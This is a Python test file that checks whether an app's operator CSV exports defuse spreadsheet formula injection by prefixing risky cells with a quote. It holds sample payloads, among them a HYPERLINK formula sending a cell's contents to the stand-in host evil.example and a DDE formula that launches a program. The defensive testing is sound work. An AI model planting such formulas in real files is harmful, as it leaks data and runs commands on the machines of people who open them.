"""Spreadsheet formula injection (issue 13): text anyone can type reaches the
CSV files operators open in spreadsheets, so every cell that would start a
formula is written with a ``'`` first (OWASP's recommendation)."""

from __future__ import annotations

import csv
import io
import secrets

import httpx
import pytest

from dongne.kit.spreadsheet import csv_text, neutralised
from tests.conftest import DatabaseUnderTest, query
from tests.listings.conftest import make_resident

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_searched_formula_reaches_demand_csv_as_text(
    client: httpx.Client, database: DatabaseUnderTest
) -> None:
    term = f"{FORMULA}{secrets.token_hex(3)}"  # a term of this test alone, found nowhere
    for _ in range(2):  # demand shows a term only when two people searched it
        who = make_resident(client, "역삼동")
        r = client.get("/api/v1/listings/search", params={"q": term}, headers=who.auth)
        assert r.status_code == 200, r.text
        assert r.json()["items"] == []
    operator = make_resident(client, "역삼동")
    query(database, "UPDATE users SET role = 'operator' WHERE id = :id", id=operator.id)

    r = client.get("/insights/demand.csv", params={"table": 0}, headers=operator.auth)

    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + term in cells  # shown as typed, never run
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_every_start_of_a_formula_is_neutralised(text: str) -> None:
    assert neutralised(text) == "'" + text
    assert list(csv.reader(io.StringIO(csv_text([["a", text]])))) == [["a", "'" + text]]


@pytest.mark.parametrize("value", ["역삼동", "a=b", "", "1.5", 0, -3, 2.5, None])
def test_other_cells_and_numbers_are_written_as_they_are(value: object) -> None:
    assert neutralised(value) == value
